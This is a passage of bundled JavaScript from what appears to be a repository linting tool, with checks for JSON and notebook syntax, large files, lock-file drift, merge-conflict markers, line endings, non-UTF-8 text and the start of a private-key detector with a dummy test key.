                i++;
            }
            else if (c === (inObject ? 0x7d : 0x5d))
                i = json_close(b, i);
            else
                return fail(b, i, end, `Expected a comma or ${inObject ? '}' : ']'} after the value`);
        }
        else if (expected >= key) {
            if (c === 0x22) {
                i = readKey(b, i, end, dialect);
                expected = value;
            }
            else if (c === 0x7d && (expected === firstKey || dialect.trailingCommas)) {
                i = json_close(b, i);
                expected = comma;
            }
            else
                return failAtKey(b, i, end, expected === key);
        }
        else if (c === 0x7b || c === 0x5b) {
            json_open(i++, c === 0x7b);
            expected = c === 0x7b ? firstKey : firstValue;
        }
        else {
            if (c === 0x22)
                i = readString(b, i, end);
            else if (c === 0x2d || (c >= 0x30 && c <= 0x39))
                i = readNumber(b, i, end);
            else if (c === 0x5d && mayClose(expected, dialect))
                i = json_close(b, i);
            else
                i = readWord(b, i, end);
            expected = comma;
        }
        if (i === -1)
            return -1;
    }
}
function mayClose(expected, dialect) {
    return expected === firstValue || (dialect.trailingCommas && json_depth > 0 && bases[json_depth - 1] < 0);
}
function json_open(at, isObject) {
    if (json_depth === openings.length) {
        openings = grown(openings);
        bases = grown(bases);
    }
    openings[json_depth] = at;
    bases[json_depth++] = isObject ? keys.count : -1;
}
function grown(array) {
    const larger = new Int32Array(array.length * 2);
    larger.set(array);
    return larger;
}
function json_close(b, at) {
    const base = bases[--json_depth];
    if (base < 0)
        return at + 1;
    if (keys.count - base > 1 && keys.hasEqualHashes(base) && repeatsName(b, base))
        return -1;
    keys.count = base;
    return at + 1;
}
function repeatsName(b, base) {
    const earlier = new Map();
    for (let i = base; i < keys.count; i++) {
        const offset = keys.offset(i);
        const end = knownStringEnd(b, offset);
        const source = b.toString('utf8', offset, end);
        const name = JSON.parse(source);
        const first = earlier.get(name);
        if (first !== undefined && (0,external_node_buffer_.isUtf8)(b.subarray(offset, end))) {
            report(offset, end - offset, `The object already has the name ${shortened(source)}, on line ${(0,syntax_problem/* lineAt */.mh)(b, first)}`);
            return true;
        }
        earlier.set(name, offset);
    }
    return false;
}
function shortened(source) {
    return source.length > 60 ? `${source.slice(0, 57)}..."` : source;
}
function knownStringEnd(b, start) {
    let i = start + 1;
    while (b[i] !== 0x22)
        i += b[i] === 0x5c ? 2 : 1;
    return i + 1;
}
function readKey(b, start, end, dialect) {
    let hash = 0x811c9dc5 | 0;
    let seen = 0;
    let i = start + 1;
    for (;; i++) {
        if (i >= end)
            return unclosedString(start, end);
        const c = b[i];
        if (c === 0x22)
            break;
        if (c < 0x20 || c === 0x5c) {
            i = readString(b, start, end) - 1;
            if (i < 0)
                return -1;
            hash = hashUnescaped(b, start, i + 1);
            break;
        }
        seen |= c;
        hash = Math.imul(hash ^ c, 0x01000193);
    }
    bits.seen |= seen;
    keys.push(hash, start);
    return readColon(b, i + 1, end, dialect);
}
function hashUnescaped(b, start, end) {
    const bytes = Buffer.from(JSON.parse(b.toString('utf8', start, end)));
    return hashBytes(bytes, 0, bytes.length);
}
function readColon(b, start, end, dialect) {
    let i = start;
    while (i < end && i !== -1) {
        const c = b[i];
        if (c === 0x3a)
            return i + 1;
        if (c === 0x2f && dialect.comments)
            i = readComment(b, i, end);
        else if (c === 0x20 || c === 0x0a || c === 0x0d || c === 0x09)
            i++;
        else
            return fail(b, i, end, 'Expected a colon after the name');
    }
    return i === -1 ? -1 : failAtEnd(b, end, openings[json_depth - 1]);
}

;// CONCATENATED MODULE: ./lib/modules/checks/json-syntax.js




const jsonSyntax = fileCheck({
    id: 'json-syntax',
    scope: 'file',
    summary: 'JSON that its readers cannot parse, and names that an object has twice',
    level: 'error',
    source: 'https://www.rfc-editor.org/rfc/rfc8259',
    types: file_type/* FileType */.pt.json | file_type/* FileType */.pt.jsonc,
    except: file_type/* FileType */.pt.vendored | file_type/* FileType */.pt.fixture,
    docs: `
Files are held to RFC 8259: no comments, no trailing commas, one value, UTF-8. Files whose ecosystem reads JSON with
comments (\`.jsonc\`, \`tsconfig.json\`, \`.vscode/*.json\` and others) may have comments, trailing commas, and no value.

A name that an object has twice is an error: most readers keep the last value in silence. Names are compared after their
escapes are resolved.

Left alone: files of zero bytes, a byte-order mark (another check's matter), JSON5, how deeply a document nests, and files
in folders of test data or of other people's code.
`,
    examples: [
        { title: 'One value', files: { 'package.json': '{ "name": "kempt", "files": ["dist"] }\n' }, findings: [] },
        { title: 'An empty file', files: { 'empty.json': '' }, findings: [] },
        {
            title: 'Comments where they are usual',
            files: { 'tsconfig.json': '{\n  // The newest\n  "target": "es2023",\n}\n' },
            findings: [],
        },
        {
            title: 'A trailing comma and a comment',
            files: { 'a.json': '{\n  "a": 1,\n}\n', 'b.json': '[\n  // one\n  1\n]\n' },
            findings: ['a.json:3', 'b.json:2'],
        },
        {
            title: 'A name twice, once with an escape',
            files: { 'names.json': '{\n  "name": 1,\n  "n\\u0061me": 2\n}\n' },
            findings: ['names.json:3'],
        },
        { title: 'More than one value', files: { 'lines.json': '{"a": 1}\n{"a": 2}\n' }, findings: ['lines.json:2'] },
    ],
    run(file, report) {
        if (file.length === 0)
            return;
        const dialect = file.types & file_type/* FileType */.pt.jsonc ? commentedJson : strictJson;
        (0,syntax_problem/* reportProblem */.kM)(findJsonError(file.buffer, file.length, dialect), report);
    },
});

;// CONCATENATED MODULE: ./lib/domain/format.js
const units = ['bytes', 'KiB', 'MiB', 'GiB', 'TiB'];
function formatBytes(bytes) {
    let unit = 0;
    let value = bytes;
    while (value >= 1024 && unit < units.length - 1) {
        value /= 1024;
        unit++;
    }
    const digits = unit === 0 || value >= 100 ? 0 : 1;
    return `${value.toFixed(digits).replace(/\.0$/, '')} ${unit === 0 && bytes === 1 ? 'byte' : units[unit]}`;
}

;// CONCATENATED MODULE: ./lib/modules/checks/files/lfs.js

function isLfsTracked(tree, path) {
    for (let folder = (0,domain_path/* dirName */.BB)(path);; folder = (0,domain_path/* dirName */.BB)(folder)) {
        const attributes = tree.read(folder === '' ? '.gitattributes' : `${folder}/.gitattributes`);
        const inside = folder === '' ? path : path.slice(folder.length + 1);
        const line = attributes
            ?.split('\n')
            .findLast((one) => /\bfilter\b/.test(one) && matches(one.split(/\s+/)[0] ?? '', inside));
        if (line !== undefined)
            return /\sfilter=lfs\b/.test(line);
        if (folder === '')
            return false;
    }
}
function matches(pattern, path) {
    if (pattern === '' || pattern.startsWith('#'))
        return false;
    const anchored = pattern.replace(/^\//, '');
    const source = anchored.replace(/\*\*\/|\*\*|\*|\?|[.+^${}()|\\]/g, (sign) => globSigns[sign] ?? `\\${sign}`);
    return new RegExp(`^${pattern.includes('/') ? '' : '(?:.*/)?'}${source}$`).test(path);
}
const globSigns = { '**/': '(?:.*/)?', '**': '.*', '*': '[^/]*', '?': '[^/]' };

;// CONCATENATED MODULE: ./lib/modules/checks/large-file.js





const largeFile = treeCheck({
    id: 'large-file',
    scope: 'tree',
    summary: 'Large files that are not in Git LFS',
    level: 'warning',
    source: 'https://docs.github.com/en/repositories/working-with-files/managing-large-files/about-large-files-on-github',
    docs: `Every clone downloads every version of every file, for ever. GitHub warns at 50 MiB and refuses 100 MiB.
Files that \`.gitattributes\` gives to Git LFS are left alone. Lock files, test data and other
people's code may be twice as large.`,
    options: {
        'max-size': { type: 'bytes', default: 2 * 1024 * 1024, summary: 'the size from which on a file is reported' },
    },
    examples: [
        {
            title: 'Larger than allowed',
            files: { 'a.bin': 'x'.repeat(3000) },
            options: { 'max-size': 2000 },
            findings: ['a.bin'],
        },
        {
            title: 'Twice as large',
            files: { 'test/fixtures/a.bin': 'x'.repeat(3000), 'b.lock': 'x'.repeat(3000), 'vendor/c.js': 'x'.repeat(5000) },
            options: { 'max-size': 2000 },
            findings: ['vendor/c.js'],
        },
        {
            title: 'In Git LFS',
            files: { '.gitattributes': '*.bin filter=lfs diff=lfs merge=lfs -text\n', 'a.bin': 'x'.repeat(3000) },
            options: { 'max-size': 2000 },
            findings: [],
        },
    ],
    run(tree, report, options) {
        const limit = options['max-size'];
        for (const entry of tree.candidates) {
            const size = entry.size ?? 0;
            if (size <= limit || !(0,domain_entry/* isRegular */.$)(entry) || isLfsTracked(tree, entry.path))
                continue;
            if (size <= 2 * limit && mayBeLarger(entry.path))
                continue;
            report(entry.path, {
                message: `The file has ${formatBytes(size)}, more than ${formatBytes(limit)}, and is not in Git LFS`,
            });
        }
    },
});
function mayBeLarger(path) {
    return ((0,file_type/* fileTypes */.Ko)(path) & (file_type/* FileType */.pt.vendored | file_type/* FileType */.pt.fixture)) !== 0 || /(?:^|[/.-])lock(?:file)?\b/i.test(path);
}

;// CONCATENATED MODULE: ./lib/modules/checks/change/manifests.js
const requirement = /^(?!.*=\s*\[\s*$)\s*["']?[A-Za-z0-9@][\w.@/-]*["']?\s*[:=[<>~!;",]/;
const manifests = [
    {
        name: 'package.json',
        locks: ['package-lock.json', 'npm-shrinkwrap.json', 'yarn.lock', 'pnpm-lock.yaml', 'bun.lock', 'bun.lockb'],
        sections: jsonSections(/^(?:dependencies|devDependencies|optionalDependencies|overrides|resolutions)$/),
        entry: /^\s*"[^"]+"\s*:\s*"(?!workspace:|file:|link:|portal:)/,
        shows: 'any',
    },
    {
        name: 'composer.json',
        locks: ['composer.lock'],
        sections: jsonSections(/^require(?:-dev)?$/),
        entry: /^\s*"[^"]+"\s*:\s*"/,
        shows: 'any',
    },
    {
        name: 'pyproject.toml',
        locks: ['uv.lock', 'poetry.lock', 'pdm.lock'],
        sections: tomlSections(/^(?:project\.optional-dependencies|dependency-groups|tool\.poetry\.(?:.*\.)?(?:dev-)?dependencies|tool\.pdm\.dev-dependencies)$/, /^(?:project|tool\.uv)$/),
        entry: requirement,
        shows: 'any',
    },
    {
        name: 'Cargo.toml',
        locks: ['Cargo.lock'],
        sections: tomlSections(/^(?!workspace\.)(?:.*\.)?(?:dev-|build-)?dependencies$/),
        entry: /^[\w-]+(?:\.(?:workspace|version|path|git))?\s*=\s*(?!\[)/,
        shows: 'new',
    },
    {
        name: 'Gemfile',
        locks: ['Gemfile.lock'],
        sections: gemSections,
        entry: /^\s*gem[ (]+["'](?!.*\b(?:if|unless|platforms?)\b)/,
        shows: 'new',
    },
];
function jsonSections(names) {
    return (lines) => {
        let depth = 0;
        let section;
        return lines.map((line) => {
            const opened = depth === 1 ? line.match(/^\s*"([^"]+)"\s*:\s*\{/)?.[1] : undefined;
            const inside = depth >= 2 ? section : undefined;
            if (opened !== undefined)
                section = names.test(opened) ? opened : undefined;
            for (const c of line.replace(/"(?:\\.|[^"\\])*"/g, '')) {
                if (c === '{' || c === '[')
                    depth++;
                else if (c === '}' || c === ']')
                    depth--;
            }
            return inside !== undefined && depth >= 2 ? inside : undefined;
        });
    };
}
function tomlSections(tables, arrays) {
    return (lines) => {
        let table = '';
        let inArray = false;
        return lines.map((line) => {
            const header = line.match(/^\s*\[\[?\s*([^\]]+?)\s*\]\]?\s*(?:#.*)?$/);
            if (header !== null && !inArray) {
                table = header[1];
                return undefined;
            }
            if (tables.test(table))
                return table;
            if (!(arrays?.test(table) ?? false))
                return undefined;
            if (/^\s*(?:dev-)?dependencies\s*=\s*\[/.test(line))
                inArray = true;
            const inside = inArray;
            if (/\]\s*(?:#.*)?$/.test(line))
                inArray = false;
            return inside ? table : undefined;
        });
    };
}
function gemSections(lines) {
    let condition;
    return lines.map((line) => {
        const indent = line.search(/\S/);
        if (condition === undefined && /^\s*(?:if|unless|case|platforms?)\b/.test(line))
            condition = indent;
        const inside = condition !== undefined;
        if (indent === condition && /^\s*end\b/.test(line))
            condition = undefined;
        return inside ? undefined : 'gem';
    });
}

;// CONCATENATED MODULE: ./lib/modules/checks/lockfile-drift.js



const lockfileDrift = changeCheck({
    scope: 'change',
    id: 'lockfile-drift',
    summary: 'Dependencies changed, and the lock file did not',
    level: 'warning',
    docs: `A lock file that does not know what its manifest asks for stops a frozen installation in CI, or lets each machine
install something else.

The lock file is the one beside the manifest, or the nearest above it (a workspace); without one nothing is said. Only
the sections of dependencies are looked at, so that a new script or version of the package itself is left alone. Cargo
and Bundler do not repeat every range and flag in their lock files: there only entries are reported that are new, where
nothing was removed from the manifest. \`go.mod\` is left alone: \`go.sum\` need not change with it, and Go itself refuses
to build where it lacks something. Manifests in tests, fixtures and examples count only if the lock file lies
beside them; packages of the same repository or the same scope, and versions of the form \`workspace:\` or \`file:\`, do not count.

Run the package manager (\`npm install\`, \`cargo check\`, \`bundle lock\`, …) and commit the lock file.`,
    source: 'https://docs.npmjs.com/cli/configuring-npm/package-lock-json',
    examples: [
        {
            title: 'a new dependency',
            base: {
                'package.json': '{\n  "dependencies": {\n    "a": "1.0.0"\n  }\n}\n',
                'package-lock.json': '{}\n',
                'Cargo.toml': '[dependencies]\na = "1"\n',
                'Cargo.lock': '',
            },
            files: {
                'package.json': '{\n  "dependencies": {\n    "a": "1.0.0",\n    "b": "1.0.0"\n  }\n}\n',
                'package-lock.json': '{}\n',
                'Cargo.toml': '[dependencies]\na = "1"\nb = "1"\n',
                'Cargo.lock': '',
            },
            findings: ['Cargo.toml:3', 'package.json:3'],
        },
        {
            title: 'a dependency is removed in a workspace',
            base: {
                'yarn.lock': '',
                'packages/a/package.json': '{\n  "dependencies": {\n    "a": "1",\n    "b": "1"\n  }\n}\n',
            },
            files: { 'yarn.lock': '', 'packages/a/package.json': '{\n  "dependencies": {\n    "b": "1"\n  }\n}\n' },
            findings: ['packages/a/package.json:2'],
        },
        {
            title: 'the lock file changed too, or there is none, or what changed is no dependency',
            base: {
                'a/package.json': '{\n  "dependencies": {\n    "a": "1"\n  }\n}\n',
                'a/pnpm-lock.yaml': 'a: 1\n',
                'b/package.json': '{\n  "version": "1.0.0",\n  "scripts": {\n  },\n  "dependencies": {\n  }\n}\n',
                'b/package-lock.json': '{}\n',
                'Cargo.toml': '[dependencies]\na = "1"\n',
                'Cargo.lock': '',
            },
            files: {
                'a/package.json': '{\n  "dependencies": {\n    "a": "2"\n  }\n}\n',
                'a/pnpm-lock.yaml': 'a: 2\n',
                'b/package.json': '{\n  "version": "1.0.1",\n  "scripts": {\n    "test": "jest"\n  },\n  "dependencies": {\n  }\n}\n',
                'b/package-lock.json': '{}\n',
                'c/package.json': '{\n  "dependencies": {\n    "a": "2"\n  }\n}\n',
                'Cargo.toml': '[dependencies]\na = "1.1"\n',
                'Cargo.lock': '',
            },
            findings: [],
        },
    ],
    run(change, report) {
        const touched = new Set(change.files.map((file) => file.path));
        let own;
        for (const file of change.files) {
            const manifest = manifestOf(file);
            const lock = manifest === undefined ? undefined : lockOf(change, file.path, manifest, touched);
            if (manifest === undefined || lock === undefined)
                continue;
            own ??= ownPackages(change);
            const line = firstDependencyLine(change, file, manifest, own);
            if (line !== undefined)
                report(file.path, { line, message: `dependencies changed here, and ${lock} did not` });
        }
    },
});
function manifestOf({ path, status, hunks }) {
    if (status === 'deleted' || hunks.length === 0 || isVendored(path))
        return undefined;
    const name = path.slice(path.lastIndexOf('/') + 1);
    return manifests.find((manifest) => manifest.name === name);
}
function lockOf(change, path, manifest, touched) {
    const apart = isTest(path) || isFixture(path) || isExample(path) || /(?:^|\/)[\w-]*templates?\//.test(path);
    for (const folder of apart ? foldersUp(path).slice(0, 1) : foldersUp(path)) {
        const locks = manifest.locks.map((lock) => folder + lock);
        if (locks.some((lock) => touched.has(lock)))
            return undefined;
        const lock = locks.find((candidate) => change.has(candidate));
        if (lock !== undefined)
            return lock;
    }
    return undefined;
}
function ownPackages(change) {
    const names = new Set();
    for (const file of change.files) {
        if (!/(?:^|\/)package\.json$/.test(file.path) || file.status === 'deleted')
            continue;
        const name = change.text(file)?.match(/^\s*"name"\s*:\s*"([^"]+)"/m)?.[1];
        if (name !== undefined)
            names.add(name);
    }
    return names;
}
function firstDependencyLine(change, file, manifest, own) {
    const lines = change.text(file)?.split('\n');
    if (lines === undefined)
        return undefined;
    const sections = manifest.sections(lines);
    const onlyNew = manifest.shows === 'new';
    if (onlyNew && file.hunks.some((hunk) => hunk.baseCount > 0))
        return undefined;
    const scope = lines.find((line) => /^\s*"name"/.test(line))?.match(/"(@[^"/]+\/)[^"]+"/)?.[1];
    const names = (line) => {
        const name = line.match(/"([^"]+)"/)?.[1] ?? '';
        return manifest.entry.test(line) && !own.has(name) && !(scope && name.startsWith(scope));
    };
    for (const hunk of file.hunks) {
        const added = hunk.added.findIndex((line, index) => sections[hunk.headStart + index - 1] && names(line));
        if (added >= 0)
            return hunk.headStart + added;
        if (!onlyNew && removesEntry(hunk, sections, lines, manifest))
            return Math.max(1, hunk.headStart);
    }
    return undefined;
}
function removesEntry({ headStart, headCount }, sections, lines, { name, entry }) {
    if (headCount > 0 || !name.endsWith('.json'))
        return false;
    return [headStart - 1, headStart].some((index) => sections[index] !== undefined && entry.test(lines[index] ?? ''));
}

;// CONCATENATED MODULE: ./lib/modules/checks/merge-conflict.js



const mergeConflict = fileCheck({
    id: 'merge-conflict',
    scope: 'file',
    summary: 'Conflict markers that a merge left behind',
    level: 'error',
    facts: facts/* Fact */.d.conflict,
    except: file_type/* FileType */.pt.patch | file_type/* FileType */.pt.vendored,
    source: 'https://git-scm.com/docs/git-merge#_how_conflicts_are_presented',
    docs: `A conflict is reported where its markers stand in their order, each at the start of a line: seven \`<\`, then seven
\`=\`, then seven \`>\`. So underlines of seven \`=\` and quotations of seven \`>\` are left alone. Files that contain
conflicts on purpose, such as tests of a merge tool, are a matter for \`exclude\`.`,
    examples: [
        {
            title: 'A conflict',
            files: { 'a.py': `${'<'.repeat(7)} HEAD\nx = 1\n${'='.repeat(7)}\nx = 2\n${'>'.repeat(7)} topic\n` },
            findings: ['a.py:1'],
        },
        { title: 'A heading', files: { 'a.rst': 'Kempt 1\n=======\n\nText.\n' }, findings: [] },
    ],
    run(file, report) {
        const starts = file.lineStarts();
        let open;
        let parted = false;
        for (let line = 0; line < starts.length; line++) {
            const marker = markerAt(file, starts[line], file.lineEnd(line));
            if (marker === '<') {
                open = line;
                parted = false;
            }
            else if (marker === '=' && open !== undefined) {
                parted = true;
            }
            else if (marker === '>' && open !== undefined && parted) {
                const offset = starts[open];
                report({
                    message: `A merge conflict that was not resolved, to line ${line + 1}`,
                    at: { offset, length: file.lineEnd(open) - offset },
                });
                open = undefined;
            }
        }
    },
});
function markerAt(file, start, end) {
    const sign = file.buffer[start];
    if (end - start < 7 || (sign !== 0x3c && sign !== 0x3d && sign !== 0x3e))
        return undefined;
    for (let i = start + 1; i < start + 7; i++)
        if (file.buffer[i] !== sign)
            return undefined;
    const next = file.buffer[start + 7];
    return end - start === 7 || next === 32 ? String.fromCharCode(sign) : undefined;
}

;// CONCATENATED MODULE: ./lib/modules/checks/mixed-line-endings.js




const mixedLineEndings = fileCheck({
    id: 'mixed-line-endings',
    scope: 'file',
    summary: 'Lines that end in different ways within one file',
    level: 'warning',
    facts: facts/* Fact */.d.crlf | facts/* Fact */.d.cr,
    except: file_type/* unkempt */.rV,
    reads: declarations,
    docs: `A file in which some lines end with LF and others with CR LF (or a lone CR) is shown differently by different
editors, and is rewritten as a whole by some of them. The fix uses the line end that most lines have; at a tie, LF.
Files that use CR LF throughout are left alone: that is what \`.gitattributes\` is for. Files whose head says that
they are generated or that \`.prettierignore\` names are left alone too.`,
    examples: [
        {
            title: 'One line out of three',
            files: { 'a.txt': 'one\r\ntwo\nthree\r\n' },
            findings: ['a.txt:2'],
            fixed: { 'a.txt': 'one\r\ntwo\r\nthree\r\n' },
        },
        { title: 'Windows throughout', files: { 'a.txt': 'one\r\ntwo\r\n' }, findings: [] },
        { title: 'Unix throughout', files: { 'a.txt': 'one\ntwo\n' }, findings: [] },
    ],
    run(file, report) {
        const kinds = [facts/* Fact */.d.crlf, facts/* Fact */.d.lf, facts/* Fact */.d.cr].filter((kind) => (file.facts & kind) !== 0);
        if (kinds.length < 2)
            return;
        const ends = [...lineEnds(file)];
        const most = mostFrequent(ends.map((end) => end.text));
        const edits = ends.filter((end) => end.text !== most).map((end) => ({ ...end, text: most }));
        const [first] = edits;
        if (first === undefined)
            return;
        const others = edits.length === 1 ? 'this line' : `${edits.length} lines, this one first,`;
        report({
            message: `Most lines end with ${names[most]}, ${others} with ${names[mixed_line_endings_text(file, first)]}`,
            at: { offset: first.offset, length: 0 },
            fix: { description: `End all lines with ${names[most]}`, edits },
        });
    },
    spares: (file, _draft, read) => isUnkempt(file, read),
});
const names = { '\r\n': 'CR LF', '\n': 'LF', '\r': 'CR' };
function mixed_line_endings_text(file, { offset, length }) {
    return file.buffer.toString('latin1', offset, offset + length);
}
function* lineEnds(file) {
    for (let i = 0; i < file.length; i++) {
        const byte = file.buffer[i];
        if (byte === 10)
            yield { offset: i, length: 1, text: '\n' };
        if (byte !== 13)
            continue;
        if (i + 1 < file.length && file.buffer[i + 1] === 10)
            yield { offset: i++, length: 2, text: '\r\n' };
        else
            yield { offset: i, length: 1, text: '\r' };
    }
}
function mostFrequent(texts) {
    const count = (wanted) => texts.filter((one) => one === wanted).length;
    return ['\n', '\r\n', '\r'].reduce((best, next) => (count(next) > count(best) ? next : best));
}

;// CONCATENATED MODULE: ./lib/modules/checks/non-utf-8.js




const nonUtf8 = fileCheck({
    id: 'non-utf-8',
    scope: 'file',
    summary: 'Text that is not valid UTF-8',
    level: 'warning',
    facts: facts/* Fact */.d.nonAscii,
    except: file_type/* unkempt */.rV | file_type/* FileType */.pt.json | file_type/* FileType */.pt.jsonc | file_type/* FileType */.pt.yaml | file_type/* FileType */.pt.toml | file_type/* FileType */.pt.notebook,
    source: 'https://www.rfc-editor.org/rfc/rfc3629',
    docs: `Text in another encoding is shown as something else by whoever guesses wrong, git and the forges among them.
A file whose first two lines declare its encoding (as Python, Ruby, XML and HTML do) is left alone, and so is UTF-16,
which git treats as binary. JSON, YAML, TOML and notebooks have to be UTF-8: their own checks say it.`,
    examples: [
        {
            title: 'Latin-1',
            files: { 'a.txt': { content: Buffer.from('caf\u00e9\n', 'latin1') } },
            findings: ['a.txt:1'],
        },
        {
            title: 'Latin-1, and says so',
            files: { 'a.py': { content: Buffer.from('# -*- coding: latin-1 -*-\nx = "caf\u00e9"\n', 'latin1') } },
            findings: [],
        },
        { title: 'UTF-8', files: { 'a.txt': 'caf\u00e9\n' }, findings: [] },
    ],
    run(file, report) {
        if ((0,external_node_buffer_.isUtf8)(file.bytes()))
            return;
        const head = file.buffer.toString('latin1', 0, Math.min(file.length, 1024));
        if (/(?:coding|charset)\s*[:=]\s*["']?[\w.-]+|<\?xml[^>]+encoding=/i.test(head))
            return;
        const offset = firstInvalid(file.bytes());
        report({
            message: `The byte 0x${file.buffer[offset].toString(16).toUpperCase()} is not valid UTF-8 here`,
            at: { offset, length: 1 },
        });
    },
});
function firstInvalid(bytes) {
    let valid = 0;
    let invalid = bytes.length;
    while (invalid - valid > 1) {
        const middle = (valid + invalid) >> 1;
        if ((0,external_node_buffer_.isUtf8)(bytes.subarray(0, startOfCharacter(bytes, middle))))
            valid = middle;
        else
            invalid = middle;
    }
    return startOfCharacter(bytes, valid);
}
function startOfCharacter(bytes, at) {
    let start = at;
    while (start > 0 && at - start < 3 && (bytes[start] & 0xc0) === 0x80)
        start--;
    return start;
}

;// CONCATENATED MODULE: ./lib/modules/checks/syntax/json-locate.js


function locate(b, length, path) {
    let offset = skipBlanks(b, (0,syntax_problem/* afterByteOrderMark */.kX)(b, length));
    for (const step of path) {
        const inside = child(b, length, offset, step);
        if (inside === undefined)
            break;
        offset = inside;
    }
    const isCollection = b[offset] === 0x7b || b[offset] === 0x5b;
    return { offset, length: isCollection ? 1 : valueEnd(b, length, offset) - offset };
}
function child(b, end, offset, step) {
    const isObject = b[offset] === 0x7b;
    let p = skipBlanks(b, offset + 1);
    for (let index = 0; b[p] !== 0x7d && b[p] !== 0x5d; index++) {
        let name = index;
        if (isObject) {
            const nameEnd = readString(b, p, end);
            name = JSON.parse(b.toString('utf8', p, nameEnd));
            p = skipBlanks(b, skipBlanks(b, nameEnd) + 1);
        }
        if (name === step)
            return p;
        p = skipBlanks(b, valueEnd(b, end, p));
        if (b[p] === 0x2c)
            p = skipBlanks(b, p + 1);
    }
    return undefined;
}
function valueEnd(b, end, offset) {
    let depth = 0;
    let p = offset;
    do {
        const c = b[p];
        if (c === 0x22)
            p = readString(b, p, end);
        else if (c === 0x7b || c === 0x5b) {
            depth++;
            p++;
        }
        else if (c === 0x7d || c === 0x5d) {
            depth--;
            p++;
        }
        else if (c === 0x2d || (c >= 0x30 && c <= 0x39))
            p = readNumber(b, p, end);
        else if (c >= 0x61)
            p = readWord(b, p, end);
        else
            p++;
    } while (depth > 0);
    return p;
}
function skipBlanks(b, start) {
    let p = start;
    while (b[p] <= 0x20)
        p++;
    return p;
}

;// CONCATENATED MODULE: ./lib/modules/checks/syntax/notebook.js


function findNotebookError(buffer, length) {
    const problem = findJsonError(buffer, length);
    if (problem)
        return problem;
    const text = buffer.toString('utf8', 0, length).replace(/^\u{feff}/u, '');
    const fault = faultOfNotebook(JSON.parse(text));
    return fault && { message: fault.message, ...locate(buffer, length, fault.path) };
}
function isRecord(value) {
    return typeof value === 'object' && value !== null && !Array.isArray(value);
}
function faultOfNotebook(notebook) {
    if (!isRecord(notebook))
        return { message: 'A notebook must be an object', path: [] };
    const { nbformat, cells } = notebook;
    if (!Number.isInteger(nbformat) || nbformat < 3) {
        return { message: 'nbformat must be an integer of at least 3', path: nbformat === undefined ? [] : ['nbformat'] };
    }
    if (nbformat === 3)
        return undefined;
    if (!Array.isArray(cells))
        return { message: 'cells must be an array', path: cells === undefined ? [] : ['cells'] };
    for (const [index, cell] of cells.entries()) {
        const fault = faultOfCell(cell, ['cells', index]);
        if (fault)
            return fault;
    }
    return undefined;
}
function faultOfCell(cell, path) {
    if (!isRecord(cell))
        return { message: 'A cell must be an object', path };
    const { cell_type: type, source } = cell;
    if (typeof type !== 'string') {
        return {
            message: 'A cell needs a cell_type, which is a string',
            path: 'cell_type' in cell ? [...path, 'cell_type'] : path,
        };
    }
    const lines = typeof source === 'string' ? source.split('\n') : source;
    if (!Array.isArray(lines) || !lines.every((line) => typeof line === 'string')) {
        const message = 'A cell needs a source, which is a string or an array of strings';
        return { message, path: 'source' in cell ? [...path, 'source'] : path };
    }
    const conflict = lines.findIndex((line) => /^(?:<{7}|>{7}) /.test(line));
    if (conflict < 0)
        return undefined;
    const at = typeof source === 'string' ? [...path, 'source'] : [...path, 'source', conflict];
    return { message: 'The source of this cell holds a merge conflict', path: at };
}

;// CONCATENATED MODULE: ./lib/modules/checks/notebook-syntax.js




const notebookSyntax = fileCheck({
    id: 'notebook-syntax',
    scope: 'file',
    summary: 'Jupyter notebooks that do not open',
    level: 'error',
    source: 'https://nbformat.readthedocs.io/en/latest/format_description.html',
    types: file_type/* FileType */.pt.notebook,
    except: file_type/* FileType */.pt.vendored | file_type/* FileType */.pt.fixture,
    docs: `
A notebook must be JSON, name its format (\`nbformat\`, 3 or later), and from format 4 on have an array of cells, each with
a \`cell_type\` and a \`source\`. A line of a cell that begins with a conflict marker is reported as well, because a merge
may leave the JSON intact.

Left alone: outputs, metadata, the order of cells, the cells of format 3, files of zero bytes, and files
in folders of test data or of other people's code.
`,
    examples: [
        {
            title: 'A notebook',
            files: { 'a.ipynb': '{"cells": [{"cell_type": "code", "source": ["1 + 1"]}], "nbformat": 4}\n' },
            findings: [],
        },
        {
            title: 'A cell without source',
            files: {
                'a.ipynb': '{\n  "nbformat": 4,\n  "cells": [\n    {"cell_type": "raw", "source": ""},\n    {"cell_type": "code"}\n  ]\n}\n',
            },
            findings: ['a.ipynb:5'],
        },
        {
            title: 'A merge conflict, in a cell and in the JSON',
            files: {
                'a.ipynb': '{\n  "nbformat": 4,\n  "cells": [{"cell_type": "code", "source": [\n    "a",\n    "<<<<<<< HEAD\\n"\n  ]}]\n}\n',
                'b.ipynb': '{\n  "cells": [\n<<<<<<< HEAD\n  ]\n}\n',
            },
            findings: ['a.ipynb:5', 'b.ipynb:3'],
        },
    ],
    run(file, report) {
        if (file.length === 0)
            return;
        (0,syntax_problem/* reportProblem */.kM)(findNotebookError(file.buffer, file.length), report);
    },
});

// EXTERNAL MODULE: ./lib/modules/checks/secrets/private-keys.js
var private_keys = __webpack_require__(7156);
;// CONCATENATED MODULE: ./lib/modules/checks/private-key.js


const header = (kind) => `-----BEGIN ${kind}PRIVATE${' '}KEY-----`;
const body = Array.from({ length: 3 }, (_, line) => `MIIEpAIBAAKCAQEA${line}Zk3Qw9xT7bLr2VnY5sHcU8dJfGgKpMa`).join('\n');
const privateKey = fileCheck({
    scope: 'file',
    id: 'private-key',
    summary: 'Finds private keys: PEM, OpenSSH, PGP, PuTTY, SSH2, OpenVPN, Sigstore',
    level: 'error',
    keywords: private_keys/* keyKeywords */.qo,
    source: 'https://github.com/pre-commit/pre-commit-hooks#detect-private-key',
    docs: `Whoever can read the repository, now or from its history later, has the key. Take it out, and replace it
wherever it was in use: it has to be considered lost.

The rule \`private-key/key\` is a header with a key behind it, the rule \`private-key/header\` is a header alone. A header
that stands in quotes, with the closing quote right behind it, is left alone: that is code that reads or writes keys.
pre-commit's hook \`detect-private-key\` reports that too, and reports once for each file.`,
    examples: [
        {
            title: 'A key',
            files: { id_rsa: `${header('RSA ')}\n${body}\n${header('RSA ').replace('BEGIN', 'END')}\n` },
            findings: ['id_rsa:1 key'],
        },
        {
            title: 'A header alone',
            files: { 'notes.md': `The file begins with\n\n    ${header('')}\n` },
            findings: ['notes.md:3 header'],
        },
        {
            title: 'Code that speaks of keys',
            files: { 'pem.ts': `const begin = '${header('OPENSSH ')}';\n` },
            findings: [],
        },
    ],
    run(file, report) {
        (0,private_keys/* scanPrivateKeys */.$A)(file.buffer, file.length, ({ marker, offset, length, body: hasBody, quoted }) => {
            if (!hasBody && quoted)
                return;
            report({
